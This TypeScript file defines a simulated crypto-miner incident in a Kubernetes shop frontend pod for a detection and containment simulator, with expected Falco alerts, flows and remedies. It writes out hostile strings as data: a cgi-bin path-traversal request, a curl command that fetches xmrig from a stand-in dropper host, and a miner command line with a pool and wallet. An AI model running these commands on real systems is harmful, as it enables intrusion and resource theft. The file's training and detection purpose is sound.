import { RULES } from '../../falco/rules.js';
import type { ScenarioDefinition, ScenarioRun } from '../kit.js';

const POOL = { name: 'pool.supportxmr.com', ip: '192.0.2.44', port: 3333, protocol: 'TCP' as const };
const DROPPER = { name: '198.51.100.77', ip: '198.51.100.77', port: 80, protocol: 'TCP' as const };
const WALLET = '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge';

export const cryptoMiner: ScenarioDefinition = {
  info: {
    name: 'crypto-miner',
    title: 'Crypto-miner in the shop frontend',
    description:
      'An nginx pod of shop/frontend is exploited; the attacker downloads xmrig into /tmp, runs it as the nginx user at ~380% CPU and mines to pool.supportxmr.com:3333. The miner is restarted by a watchdog loop.',
    expected: {
      falcoRules: [RULES.remoteCopyTool.rule, RULES.dropAndExecute.rule, RULES.knownMiner.rule, RULES.stratum.rule, RULES.minerPoolPorts.rule],
      audit: [],
      flows: ['shop/frontend pod → 198.51.100.77:80 (download)', 'shop/frontend pod → kube-dns:53/UDP (pool lookups)', 'shop/frontend pod → pool.supportxmr.com (192.0.2.44):3333 every iteration; DROPPED (POLICY_DENIED) once egress is denied'],
      mitre: ['T1190', 'T1105', 'T1496'],
    },
    containment: [
      'NetworkPolicy denying egress of the pod: pool flows become DROPPED (and DNS lookups too), "Detect outbound connections to common miner pool ports" stops; "Known Cryptominer Process Executed" still fires when the watchdog restarts the miner',
      'Delete the pod (or scale shop/frontend to 0): everything stops; the replacement pod is clean',
    ],
    actor: { namespace: 'shop', workload: 'frontend', kind: 'Deployment', container: 'frontend', serviceAccount: 'frontend' },
  },
  start(run: ScenarioRun) {
    run.deps.traffic.topology.registerExternal(POOL);
    run.deps.traffic.topology.registerExternal(DROPPER);
    const pod = run.chooseTarget('shop', 'frontend');
    if (!pod) {
      run.phase('no target pod');
      return;
    }
    const minerArgs = `-o stratum+tcp://${POOL.name}:${POOL.port} -u ${WALLET} -k --donate-level 1 --cpu-max-threads-hint=100 -B`;
    const minerCmd = `/tmp/.x/xmrig ${minerArgs}`;
    const minerCmdline = `xmrig ${minerArgs}`;
    let minerRunning = false;
    const startMiner = () => {
      const target = run.target();
      const container = target && run.container(target);
      if (!target || !container) return;
      container.processes = container.processes.filter((p) => !p.command.includes('xmrig'));
      run.sim.runtime.addProcess(container, minerCmd, 'nginx', 381.4, 2410, 7);
      const fields = { 'evt.type': 'execve', 'user.name': 'nginx', 'user.uid': 101, 'proc.name': 'xmrig', 'proc.exepath': '/tmp/.x/xmrig', 'proc.pname': 'sh', 'proc.cmdline': minerCmdline, 'proc.tty': 0 };
      if (!minerRunning) run.alert(RULES.dropAndExecute, target, { ...fields, 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' });
      run.alert(RULES.knownMiner, target, fields);
      run.alert(RULES.stratum, target, fields);
      minerRunning = true;
    };

    run.phase('initial access');
    const container = run.container(pod);
    container?.logs.push({ timeMs: Date.now(), text: `10.244.2.4 - - [${new Date().toUTCString()}] "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200 0 "-" "curl/8.5.0" "198.51.100.77"` });
    run.after(2000, () => {
      const target = run.target();
      if (!target) return;
      run.phase('payload download');
      const download = run.connect(target, DROPPER.ip, DROPPER.port);
      run.alert(RULES.remoteCopyTool, target, { 'evt.type': 'execve', 'user.name': 'nginx', 'user.uid': 101, 'proc.name': 'curl', 'proc.exepath': '/usr/bin/curl', 'proc.pname': 'sh', 'proc.cmdline': `curl -sL http://${DROPPER.ip}/x -o /tmp/.x/xmrig` });
      if (download.verdict !== 'allowed') {
        run.phase('download blocked');
        return;
      }
      run.container(target)?.files.push({ path: '/tmp/.x/xmrig', size: 8_364_040, mtimeMs: Date.now(), owner: 'nginx', mode: 'rwxr-xr-x' }, { path: '/tmp/.x/config.json', size: 1_812, mtimeMs: Date.now(), owner: 'nginx', mode: 'rw-r--r--' });
      run.after(2000, () => {
        run.phase('mining');
        startMiner();
      });
    });

    run.every(10_000, () => {
      const target = run.target();
      if (!target) {
        run.setContained(true, 'compromised pod deleted');
        run.phase('contained: pod gone');
        return;
      }
      if (!minerRunning) return;
      // The watchdog restarts the miner now and then: a process event that needs no network.
      if (run.status.iterations % 3 === 0) startMiner();
      const result = run.connect(target, POOL.name, POOL.port);
      const container = run.container(target);
      if (container) {
        container.extraConnections = container.extraConnections.filter((c) => c.remotePort !== POOL.port);
        const minerPid = container.processes.find((p) => p.command.includes('xmrig'))?.pid ?? 1;
        container.extraConnections.push({ proto: 'tcp', localIp: '', localPort: 40000 + (run.status.iterations % 20000), remoteIp: POOL.ip, remotePort: POOL.port, state: result.verdict === 'allowed' ? 'ESTABLISHED' : 'SYN_SENT', pid: minerPid, program: 'xmrig' });
      }
      if (result.verdict === 'allowed') {
        const local = `${target.status?.podIP}:${40000 + (run.status.iterations % 20000)}`;
        run.alert(RULES.minerPoolPorts, target, { 'evt.type': 'connect', 'user.name': 'nginx', 'user.uid': 101, 'proc.name': 'xmrig', 'proc.exepath': '/tmp/.x/xmrig', 'proc.pname': 'sh', 'proc.cmdline': minerCmdline, 'fd.name': `${local}->${POOL.ip}:${POOL.port}`, 'fd.rip': POOL.ip, 'fd.rport': POOL.port, 'fd.l4proto': 'tcp' });
        run.setContained(false);
        run.phase('mining');
      } else {
        run.setContained(true, 'egress to the mining pool denied by NetworkPolicy');
        run.phase('contained: egress blocked');
      }
    });
  },
};
